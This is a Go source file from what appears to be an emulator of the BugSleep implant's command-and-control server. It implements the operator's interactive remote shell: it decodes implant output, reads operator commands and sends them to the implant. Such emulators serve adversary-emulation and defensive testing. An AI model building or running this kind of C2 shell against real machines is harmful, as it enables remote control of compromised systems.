package server

import (
	"bugsleep_c2emu/constants"
	"bugsleep_c2emu/networking"
	"bytes"
	"errors"
	"fmt"
	"io"
	"strings"
)

// endOfOutput terminates every shell message of the implant
var endOfOutput = []byte{0x00, 0x00, 0x00, 0x00}

// ReceiveOutput reads and decrypts shell output until the end-of-output
// marker. A single read rarely holds a whole response, so everything is
// buffered until the marker trails the stream.
func ReceiveOutput(r io.Reader, increment uint8) ([]byte, error) {
	var output []byte
	buffer := make([]byte, constants.SHELL_RECV_SIZE)
	for {
		read, err := r.Read(buffer)
		if read > 0 {
			output = append(output, networking.Transform(buffer[:read], increment)...)
			if bytes.HasSuffix(output, endOfOutput) {
				return output, nil
			}
		}
		if errors.Is(err, io.EOF) {
			return output, networking.ErrChannelClosed
		}
		if err != nil {
			return output, err
		}
	}
}

// CleanOutput strips the NULs around the output and normalizes line endings
func CleanOutput(raw []byte) string {
	clean := bytes.Trim(raw, "\x00")
	clean = bytes.ReplaceAll(clean, []byte("\r\n"), []byte("\n"))
	return strings.ToValidUTF8(string(clean), "�")
}

// runShell alternates between implant output and operator commands.
// Every command is answered by its output and then by the implant's
// ready message, so two messages are read per command.
func (h *Handler) runShell() error {
	h.log.Info("[Shell] Interactive shell started. Type 'terminate' to exit.")

	for {
		if closed, err := h.receiveAndShow(); closed {
			return err
		}

		command, quit, err := h.nextCommand()
		if quit || err != nil {
			return err
		}

		h.log.Debugf("[Shell] Sending packed command '%s'", command)
		if h.cfg.Verbosity >= 3 {
			packed, _ := networking.PackCommand(command, h.crypto.Increment())
			h.dump(3, "Packed command", packed)
		}
		if err := networking.WriteCommandFrame(h.conn, command, h.crypto.Increment()); err != nil {
			return fmt.Errorf("send command: %w", err)
		}

		if closed, err := h.receiveAndShow(); closed {
			return err
		}
	}
}

// receiveAndShow passes one implant message to the operator. Returns true
// once the shell is over.
func (h *Handler) receiveAndShow() (bool, error) {
	raw, err := ReceiveOutput(h.conn, h.crypto.Increment())
	if errors.Is(err, networking.ErrChannelClosed) {
		h.log.Info("[Shell] Implant closed the channel")
		return true, nil
	}
	if err != nil {
		return true, fmt.Errorf("receive output: %w", err)
	}

	h.dump(4, "Shell output", raw)
	h.cfg.Operator.Show(h.id, CleanOutput(raw))
	return false, nil
}

// nextCommand prompts until the operator enters something sendable
func (h *Handler) nextCommand() (string, bool, error) {
	for {
		command, err := h.cfg.Operator.ReadCommand(h.id, constants.SHELL_PROMPT)
		if errors.Is(err, io.EOF) {
			h.log.Info("[Shell] Operator input closed, terminating the session")
			return "", true, nil
		}
		if err != nil {
			return "", true, fmt.Errorf("operator input: %w", err)
		}

		command = strings.TrimSpace(command)
		if strings.EqualFold(command, constants.TERMINATE_COMMAND) {
			h.log.Info("[Shell] Terminating the session")
			return "", true, nil
		}

		if _, err := networking.PackCommand(command, h.crypto.Increment()); err != nil {
			h.log.Warnf("[Shell] Command not sent: %v", err)
			continue
		}

		return command, false, nil
	}
}
